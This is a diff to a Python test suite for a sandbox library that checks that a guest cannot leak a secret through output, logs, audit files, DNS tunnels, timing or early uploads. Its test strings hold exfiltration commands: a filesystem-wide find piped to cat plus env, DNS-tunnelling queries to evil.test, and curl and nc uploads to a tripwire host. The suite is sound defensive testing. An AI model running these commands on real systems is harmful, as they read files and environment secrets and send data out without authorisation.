@@ -12,15 +12,16 @@ import json
 import logging
 import threading
 import time
+import zlib
 from collections.abc import Callable, Iterator
-from contextlib import ExitStack, contextmanager
+from contextlib import ExitStack, contextmanager, suppress
 from pathlib import Path
 from typing import Any
 from urllib.parse import quote
 
 import pytest
 
-from belljar import ExecResult, Limits, Network, NetworkLimits, Sandbox
+from belljar import AuditLog, ExecResult, Limits, Network, NetworkLimits, Sandbox
 from tests.escape.oracles import Watch
 from tests.net.servers import (
     Authority,
@@ -45,6 +46,19 @@ FORMS = [
     base64.b64encode(b"  " + TOKEN.encode())[4:-4],
     TOKEN[::-1].encode(),
 ]
+
+
+def shown(data: bytes) -> list[bytes]:
+    """What there is to search: the bytes, and what is packed in them."""
+    found = [data]
+    at = data.find(b"\x1f\x8b\x08")
+    while at >= 0:
+        with suppress(zlib.error):
+            found.append(zlib.decompressobj(47).decompress(data[at:], 1 << 20))
+        at = data.find(b"\x1f\x8b\x08", at + 1)
+    return found
+
+
 CORNERS = (
     "find / -xdev -type f -not -path '/usr/*' -not -path '/bin/*' -not -path '/proc/*' | xargs cat 2>/dev/null; env"
 )
@@ -53,10 +67,16 @@ CORNERS = (
 class Guest:
     """A sandbox whose every visible byte, event and log line is kept, to be searched for the secret."""
 
-    def __init__(self, network: Network, limits: Limits | None = None) -> None:
+    def __init__(self, network: Network, limits: Limits | None, audit: Path) -> None:
         self.events: list[Any] = []
         self.seen: list[bytes] = []
-        self.sandbox = Sandbox(network=network, limits=limits or Limits(wall_seconds=60), on_event=self.events.append)
+        self.audit = audit
+        self._log = AuditLog(audit)
+        self.sandbox = Sandbox(network=network, limits=limits or Limits(wall_seconds=60), on_event=self._event)
+
+    def _event(self, event: Any) -> None:
+        self.events.append(event)
+        self._log(event)
 
     def run(self, script: str, *, timeout: float = 60) -> ExecResult:
         result = self.sandbox.exec(script, timeout=timeout)
@@ -72,6 +92,7 @@ class Guest:
     def close(self) -> None:
         self.run(CORNERS)
         self.sandbox.close()
+        self._log.close()
 
 
 class _Log(logging.Handler):
@@ -101,12 +122,12 @@ async def _waits(conn: Any) -> None:
 
 
 @pytest.fixture
-def open_guest(broker: None, watch: Watch) -> Iterator[Callable[..., Guest]]:
+def open_guest(broker: None, watch: Watch, tmp_path: Path) -> Iterator[Callable[..., Guest]]:
     """Makes guests; afterwards the host is as it was, and the secret is nowhere."""
     guests: list[Guest] = []
 
     def make(network: Network, limits: Limits | None = None) -> Guest:
-        guests.append(Guest(network, limits))
+        guests.append(Guest(network, limits, tmp_path / f"audit-{len(guests)}.jsonl"))
         return guests[-1]
 
     root = logging.getLogger()
@@ -127,10 +148,12 @@ def open_guest(broker: None, watch: Watch) -> Iterator[Callable[..., Guest]]:
         visible = b"\n".join(guest.seen)
         watch.check_bytes(visible)
         told = json.dumps([str(event) for event in guest.events]).encode()
+        kept = guest.audit.read_bytes()
         for form in FORMS:
-            assert form not in visible, "the guest saw the secret"
+            assert not any(form in part for part in shown(visible)), "the guest saw the secret"
             assert form not in told, "an event has the secret"
             assert form not in written, "a log has the secret"
+            assert form not in kept, "the audit file has the secret"
 
 
 Open = Callable[..., Guest]
@@ -597,14 +620,14 @@ def test_74_too_much_of_everything(open_guest: Open) -> None:
 def test_75_dns_tunnels_nothing(open_guest: Open) -> None:
     data = base64.b32encode(b"stolen data in a label").decode().strip("=").lower()
     with DnsServer({"good.test": ["93.184.215.14"]}) as names, Tripwire() as wire:
-        limits = NetworkLimits(dns_per_second=5)
+        limits = NetworkLimits(dns_per_second=1)
         guest = open_guest(Network.allow("good.test", resolvers=[names.authority], limits=limits))
         for name in (f"{data}.evil.test", f"{data}.good.test", f"good.test.{data}.evil.test", "a" * 63 + ".good.test"):
             guest.run(f"dig {name}; dig TXT {name}; host {name}; nc -z {name} 80; curl -sS http://{name}/")
         guest.run("for kind in TXT NULL ANY MX AXFR; do dig $kind good.test; echo good.test $kind > /net/dns; done")
         assert {name for name, _ in names.questions} <= {"good.test"}
         assert {kind for _, kind in names.questions} <= {"A", "AAAA"}
-        said = guest.run("for i in {1..300}; do dig +short AAAA good.test; done 2>&1 | sort | uniq -c")
+        said = guest.run("for i in {1..300}; do dig +short n$i.evil.test; done 2>&1 | sort | uniq -c")
         assert "questions a second" in said.stdout
         guest.blocked(f"curl -sS -m 5 'https://127.0.0.1:{wire.port}/dns-query?name=x'")
         guest.blocked(f"dig @127.0.0.1 -p {wire.port} x.test")
@@ -753,6 +776,20 @@ def test_82_nothing_leaves_before_the_verdict(open_guest: Open) -> None:
         assert not wire.touched()
 
 
+def _names_only(conn: Any) -> None:
+    if dns := conn.match_dns():
+        dns.accept()
+
+
+def test_82_a_flood_of_early_data_waits_for_the_verdict(open_guest: Open) -> None:
+    """Bodies and lines that are written at once stay here when the answer is no."""
+    with Tripwire("127.0.0.2") as wire:
+        guest = open_guest(Network.policy(_names_only, hosts=HOSTS))
+        guest.blocked(f"head -c 3000000 /dev/zero | curl -sS -T - http://api.test:{wire.port}/")
+        guest.blocked(f"head -c 3000000 /dev/zero | nc -w 5 api.test {wire.port}")
+        assert not wire.touched()
+
+
 def _raises(conn: Any) -> None:
     raise RuntimeError(TOKEN[:3])
 
@@ -795,7 +832,7 @@ def test_84_the_environment_opens_no_other_way(open_guest: Open) -> None:
 
 def test_85_what_can_be_told_by_timing_is_rate_limited(open_guest: Open) -> None:
     with HttpServer({"/": "x"}) as server:
-        limits = NetworkLimits(requests_per_second=5)
+        limits = NetworkLimits(requests_per_second=1)
         guest = open_guest(Network.allow(f"127.0.0.1:{server.port}", limits=limits))
         result = guest.run(f"curl -s '{server.url}/?[1-300]' -o /dev/null -w '%{{http_code}}\\n' | sort | uniq -c")
         assert "000" in result.stdout
